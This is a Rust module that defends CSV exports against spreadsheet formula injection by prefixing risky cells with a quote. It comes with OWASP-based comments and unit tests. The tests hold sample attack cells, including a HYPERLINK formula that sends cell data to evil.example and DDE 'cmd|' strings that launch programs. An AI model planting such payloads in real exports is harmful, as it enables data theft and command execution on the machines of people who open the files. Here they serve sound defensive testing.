//! Text the product writes into files people open in a spreadsheet (CSV exports).
//!
//! Excel, LibreOffice Calc and Google Sheets evaluate a cell whose text begins with `=`, `+`,
//! `-` or `@` as a formula (and a leading tab or line break can hide such a character), so
//! a value an attacker controls — a token's `name` claim, a `User-Agent`, an `X-Request-Id` —
//! could run `=HYPERLINK(…)` or a DDE command on the machine of whoever opens the export.
//! OWASP's rule ("CSV Injection"): a cell beginning with one of those characters, a tab or a
//! carriage return gets a single quote in front, which spreadsheets show as text and do not
//! evaluate. A line feed is treated like the carriage return (one more character than OWASP's
//! list: whatever strips a leading CR may strip an LF).
//!
//! The rule is applied to every cell, whatever its column, and without exceptions: a plain
//! negative number such as `-5` becomes `'-5` too. Telling a harmless `-5` from `-1+cmd|…`
//! would be a parser of the spreadsheet's formula language; OWASP recommends the blanket prefix,
//! and the product's exports hold no negative numbers of their own (a JSON diff of a negative
//! value is the only way one appears). A reader who needs the raw value strips one leading `'`
//! from a cell whose second character is one of the triggers.

use std::borrow::Cow;

/// The characters that make a spreadsheet treat a cell as a formula when they come first:
/// `=`, `+`, `-`, `@`, tab (0x09) and carriage return (0x0D) — OWASP's list — and line feed
/// (0x0A).
pub const FORMULA_TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// `cell` as it may be written into a CSV: unchanged unless it begins with one of
/// [`FORMULA_TRIGGERS`], then prefixed with a single quote (`'`) so it is read as text.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_trigger_character_is_neutralised() {
        for (cell, safe) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            (
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
            ),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\n=1+1", "'\n=1+1"),
        ] {
            assert_eq!(neutralise_formula(cell), safe, "{cell:?}");
        }
    }

    #[test]
    fn a_negative_number_is_neutralised_too_as_owasp_says() {
        assert_eq!(neutralise_formula("-5"), "'-5");
        assert_eq!(neutralise_formula("-0.5"), "'-0.5");
    }

    #[test]
    fn benign_values_are_unchanged_and_not_copied() {
        for cell in [
            "",
            "acme",
            "user:alice",
            "42",
            "2026-12-01T02:25:57Z",
            "{\"name\":\"=x\"}",
            "Mozilla/5.0 (X11; Linux x86_64)",
            " =1+1",
            "a=b",
            "'=already quoted",
        ] {
            let out = neutralise_formula(cell);
            assert!(matches!(out, Cow::Borrowed(_)), "{cell:?} is copied");
            assert_eq!(out, cell);
        }
    }

    #[test]
    fn only_the_first_character_counts() {
        assert_eq!(neutralise_formula("a-b"), "a-b");
        assert_eq!(neutralise_formula("=="), "'==");
        assert_eq!(neutralise_formula("'"), "'");
    }
}
